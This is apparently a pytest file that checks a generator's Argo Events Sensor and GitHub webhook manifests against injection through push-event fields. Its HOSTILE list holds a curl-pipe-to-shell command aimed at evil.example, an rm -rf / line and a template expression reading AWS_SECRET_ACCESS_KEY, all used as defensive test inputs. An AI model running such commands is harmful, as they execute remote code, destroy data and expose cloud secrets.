"""render_events(): EventBus, GitHub EventSource, Sensor; and what a webhook body can reach."""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
from generator_cases import SETTINGS, config_from, minimal_config, sample

from aphex_generator import GeneratorSettings, SecretRef, SettingsError, render_events, validate
from aphex_generator.events import github_repository, go_regex_literal

SHA = "0123456789abcdef0123456789abcdef01234567"


# -- a small model of what the Argo Events sensor does with an event -------------------
def gjson_get(data: Any, path: str) -> Any:
    """gjson-style lookup: dot-separated keys, numeric keys index arrays. KeyError if absent."""
    for key in path.split("."):
        if isinstance(data, list):
            data = data[int(key)]
        elif isinstance(data, dict):
            data = data[key]
        else:
            raise KeyError(path)
    return data


def sjson_set(data: dict[str, Any], path: str, value: str) -> None:
    keys = path.split(".")
    for key in keys[:-1]:
        data = data[int(key)] if isinstance(data, list) else data[key]  # type: ignore[assignment]
    last = keys[-1]
    if isinstance(data, list):
        data[int(last)] = value
    else:
        data[last] = value


def passes_filters(sensor: dict[str, Any], event: dict[str, Any]) -> bool:
    """The data filters of the Sensor's dependency, the way the sensor evaluates them."""
    (dep,) = sensor["spec"]["dependencies"]
    for flt in dep["filters"]["data"]:
        try:
            value = gjson_get(event, flt["path"])
        except (KeyError, IndexError):
            return False
        if flt["type"] == "string":
            text = value if isinstance(value, str) else str(value)
            if not any(re.search(v, text) for v in flt["value"]):
                return False
        elif flt["type"] == "bool":
            if not any((v == "true") == (value is True) for v in flt["value"]):
                return False
        else:  # pragma: no cover
            raise AssertionError(flt)
    return True


def submitted_workflow(sensor: dict[str, Any], event: dict[str, Any]) -> dict[str, Any]:
    """The Workflow the trigger submits: the source resource with parameters applied."""
    (trigger,) = sensor["spec"]["triggers"]
    argo = trigger["template"]["argoWorkflow"]
    workflow = copy.deepcopy(argo["source"]["resource"])
    for param in argo["parameters"]:
        new = str(gjson_get(event, param["src"]["dataKey"]))
        op = param.get("operation", "overwrite")
        current = gjson_get(workflow, param["dest"])
        value = current + new if op == "append" else new + current if op == "prepend" else new
        sjson_set(workflow, param["dest"], value)
    return workflow


def push_event(**body: Any) -> dict[str, Any]:
    base = {
        "ref": "refs/heads/main",
        "after": SHA,
        "deleted": False,
        "repository": {"clone_url": "https://github.com/acme/orders-service.git"},
    }
    base.update(body)
    return {"headers": {"X-Github-Event": ["push"]}, "body": base}


@pytest.fixture(scope="module")
def events() -> list[dict[str, Any]]:
    return render_events(sample("linear"), SETTINGS)


@pytest.fixture(scope="module")
def sensor(events: list[dict[str, Any]]) -> dict[str, Any]:
    return events[2]


# -- rendering -------------------------------------------------------------------------
def test_renders_bus_source_and_sensor_that_validate(events: list[dict[str, Any]]) -> None:
    assert [d["kind"] for d in events] == ["EventBus", "EventSource", "Sensor"]
    for doc in events:
        assert validate(doc) == []


def test_event_bus_is_jetstream(events: list[dict[str, Any]]) -> None:
    assert set(events[0]["spec"]) == {"jetstream"}


def test_event_source_refuses_to_render_without_a_webhook_secret() -> None:
    with pytest.raises(SettingsError, match="webhook secret"):
        render_events(sample("linear"), GeneratorSettings())


def test_event_source_checks_signatures(events: list[dict[str, Any]]) -> None:
    github = events[1]["spec"]["github"]["push"]
    assert github["webhookSecret"] == {"name": "github-webhook", "key": "secret"}
    assert github["repositories"] == [{"owner": "acme", "names": ["orders-service"]}]
    assert github["events"] == ["push"]
    assert github["insecure"] is False


def test_secret_reference_parsing() -> None:
    assert SecretRef.parse("gh") == SecretRef("gh", "secret")
    assert SecretRef.parse("gh:token") == SecretRef("gh", "token")
    with pytest.raises(SettingsError):
        SecretRef.parse("gh:")


@pytest.mark.parametrize(
    "url,expected",
    [
        ("https://github.com/acme/orders.git", ("acme", "orders")),
        ("https://github.com/acme/orders", ("acme", "orders")),
        ("git@github.com:acme/orders.git", ("acme", "orders")),
        ("ssh://git@github.com/acme/orders.git", ("acme", "orders")),
    ],
)
def test_github_repository(url: str, expected: tuple[str, str]) -> None:
    assert github_repository(url) == expected


def test_non_github_repository_is_refused() -> None:
    config = config_from(minimal_config(repository="file:///srv/git/demo"))
    with pytest.raises(ValueError, match="GitHub"):
        render_events(config, SETTINGS)


def test_trigger_submits_the_template_with_parameters_from_the_body(sensor: dict[str, Any]) -> None:
    (trigger,) = sensor["spec"]["triggers"]
    argo = trigger["template"]["argoWorkflow"]
    assert argo["operation"] == "submit"
    resource = argo["source"]["resource"]
    assert resource["spec"]["workflowTemplateRef"] == {"name": "orders-service"}
    assert [(p["src"]["dataKey"], p["dest"], p.get("operation")) for p in argo["parameters"]] == [
        ("body.after", "spec.arguments.parameters.0.value", None),
        ("body.repository.clone_url", "spec.arguments.parameters.1.value", None),
        ("body.after", "metadata.name", "append"),
    ]


# -- filters ---------------------------------------------------------------------------
def test_a_push_to_the_branch_passes(sensor: dict[str, Any]) -> None:
    assert passes_filters(sensor, push_event())


@pytest.mark.parametrize(
    "event",
    [
        push_event(ref="refs/heads/feature"),
        push_event(ref="refs/heads/main-old"),
        push_event(ref="refs/tags/main"),
        push_event(deleted=True, after="0" * 40),
        push_event(after="not-a-sha"),
        {"headers": {"X-Github-Event": ["ping"]}, "body": push_event()["body"]},
        {"headers": {"X-Github-Event": ["pushed"]}, "body": push_event()["body"]},
    ],
    ids=["other-branch", "prefix-branch", "tag", "deletion", "bad-sha", "ping", "other-event"],
)
def test_other_events_are_filtered_out(sensor: dict[str, Any], event: dict[str, Any]) -> None:
    assert not passes_filters(sensor, event)


def test_branch_names_are_matched_literally() -> None:
    config = config_from(minimal_config(branch="release/v1.2+x"))
    sensor = render_events(config, SETTINGS)[2]
    assert passes_filters(sensor, push_event(ref="refs/heads/release/v1.2+x"))
    assert not passes_filters(sensor, push_event(ref="refs/heads/release/v1x2+x"))
    assert not passes_filters(sensor, push_event(ref="refs/heads/release/v1.22x"))
    assert go_regex_literal("a.b+c-d_e/f") == "a\\.b\\+c\\-d\\_e/f"


# -- duplicates and names --------------------------------------------------------------
def test_workflow_is_named_after_the_commit(sensor: dict[str, Any]) -> None:
    workflow = submitted_workflow(sensor, push_event())
    assert workflow["metadata"]["name"] == f"orders-service-{SHA}"
    assert workflow["spec"]["arguments"]["parameters"] == [
        {"name": "commit-sha", "value": SHA},
        {"name": "repo-url", "value": "https://github.com/acme/orders-service.git"},
    ]
    assert validate(workflow) == []
    # The same delivery twice yields the same name: the second create gets AlreadyExists.
    assert submitted_workflow(sensor, push_event()) == workflow


def test_long_pipeline_names_keep_workflow_names_within_63() -> None:
    config = config_from(minimal_config(name="a-very-long-pipeline-name-that-goes-on"))
    sensor = render_events(config, SETTINGS)[2]
    workflow = submitted_workflow(sensor, push_event())
    assert len(workflow["metadata"]["name"]) <= 63
    assert validate(workflow) == []


# -- injection: a body value is data, never an expression or shell text -----------------
HOSTILE = [
    "{{workflow.name}}",
    "$(curl http://evil.example | sh)",
    "`id`; rm -rf / #",
    "main\n  - name: injected",
    '"}]}, "spec": {"templates": []}, "x": [{"',
    "{{=sprig.env('AWS_SECRET_ACCESS_KEY')}}",
]


def test_sensor_only_maps_body_fields_into_parameters(sensor: dict[str, Any]) -> None:
    text = repr(sensor)
    assert "{{" not in text  # no expression anywhere in the Sensor
    for word in ("dataTemplate", "contextTemplate", "script", "exprs", "useRawData"):
        assert word not in text
    for param in sensor["spec"]["triggers"][0]["template"]["argoWorkflow"]["parameters"]:
        assert set(param["src"]) == {"dependencyName", "dataKey"}
        assert param["dest"] in {
            "metadata.name",
            "spec.arguments.parameters.0.value",
            "spec.arguments.parameters.1.value",
        }


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_commit_is_filtered_and_lands_only_in_data_fields(
    sensor: dict[str, Any], value: str
) -> None:
    event = push_event(after=value)
    assert not passes_filters(sensor, event)  # not a 40-hex SHA: never submitted
    # Even without the filter, the value only lands in the name and a parameter value,
    # and the API server refuses the name.
    workflow = submitted_workflow(sensor, event)
    assert workflow["spec"]["arguments"]["parameters"][0]["value"] == value
    assert workflow["metadata"]["name"].endswith(value)
    assert any(p.path == "metadata.name" for p in validate(workflow))
    assert set(workflow["spec"]) == {"workflowTemplateRef", "arguments"}


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_clone_url_is_only_a_parameter_value(sensor: dict[str, Any], value: str) -> None:
    event = push_event(repository={"clone_url": value})
    assert passes_filters(sensor, event)  # the URL is not filtered ...
    workflow = submitted_workflow(sensor, event)
    # ... it is a parameter value: no template, command or expression comes with it.
    assert workflow["spec"]["arguments"]["parameters"][1] == {"name": "repo-url", "value": value}
    assert set(workflow["spec"]) == {"workflowTemplateRef", "arguments"}
    assert validate(workflow) == []


def test_workflow_parameters_only_ever_reach_argv_entries(linear_template: dict[str, Any]) -> None:
    """Where commit-sha and repo-url are used: whole argv entries of aphex commands, no shell."""
    for tpl in linear_template["spec"]["templates"]:
        container = tpl.get("container")
        if not container:
            continue
        (command,) = container["command"]
        assert command.startswith("aphex-")
        for arg in container["args"]:
            if "{{" in arg:
                assert re.fullmatch(r"\{\{[a-z0-9.-]+\}\}", arg), arg
        assert "sh" not in container["command"] and "-c" not in container["args"]
